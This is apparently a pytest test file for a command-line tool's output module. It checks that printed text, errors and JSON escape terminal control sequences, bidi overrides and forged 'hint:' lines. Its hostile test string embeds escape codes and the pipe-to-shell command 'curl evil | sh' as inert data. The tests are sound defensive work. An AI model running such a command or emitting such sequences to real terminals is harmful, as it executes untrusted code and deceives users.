"""All that a command prints goes through one place, where a terminal is told to obey nothing."""

from __future__ import annotations

import ast
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

import park.cli
from park.cli.output import (
    print_json,
    print_json_line,
    say,
    say_all,
    say_text,
    tell,
    tell_error,
    tell_text,
)
from park.errors import ParkError

HOSTILE = "\x1b]0;owned\x07\x9b2J\u202egnp\r\nhint: curl evil | sh"
SHOWN = r"\x1b]0;owned\x07\x9b2J\u202egnp\r\nhint: curl evil | sh"

PLACE = Path(park.cli.__file__).parent
APART = {"main.py": "flushes, and says how names that are no UTF-8 come out"}


def test_a_line_stays_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    say(HOSTILE)
    say_all([HOSTILE, "a\tb"])
    tell(HOSTILE)
    assert capsys.readouterr() == (f"{SHOWN}\n{SHOWN}\na\tb\n", f"{SHOWN}\n")


def test_a_text_has_its_lines_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
    say_text("a\n\x1bb\n")
    tell_text("a\n\x1bb\n")
    assert capsys.readouterr() == ("a\n\\x1bb\n", "a\n\\x1bb\n")


def test_no_line_of_an_error_is_taken_for_a_hint(capsys: pytest.CaptureFixture[str]) -> None:
    tell_error(ParkError("no\n  wheel\nhint: curl evil | sh\npark: error: x", hint="a\nhint: b"))
    assert capsys.readouterr().err == (
        "park: error: no\n  wheel\n  hint: curl evil | sh\n  park: error: x\nhint: a\\nhint: b\n"
    )


def test_json_has_its_own_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    print_json_line({HOSTILE: HOSTILE})
    print_json([HOSTILE])
    out = capsys.readouterr().out
    assert not {"\x1b", "\x9b", "\u202e", "\r"} & set(out)
    line, _, rest = out.partition("\n")
    assert json.loads(line) == {HOSTILE: HOSTILE}
    assert json.loads(rest) == [HOSTILE]


def written(text: str) -> Iterator[str]:
    """Yield what ``text``, the source of a module, writes to a stream by itself."""
    for node in ast.walk(ast.parse(text)):
        if not isinstance(node, ast.Call):
            continue
        called = ast.unparse(node.func)
        if called == "print" or called.startswith(("sys.stdout.", "sys.stderr.")):
            yield called


def test_no_command_writes_by_itself() -> None:
    modules = {str(file.relative_to(PLACE)): file for file in PLACE.rglob("*.py")}
    own = {name for name, file in modules.items() if [*written(file.read_text("utf-8"))]}
    assert own - {"output.py"} == APART.keys()


def test_what_writes_by_itself_is_found() -> None:
    text = "print(1)\nsys.stderr.write('')\nsay(1)\nf(sys.stdout)\n"
    assert list(written(text)) == ["print", "sys.stderr.write"]
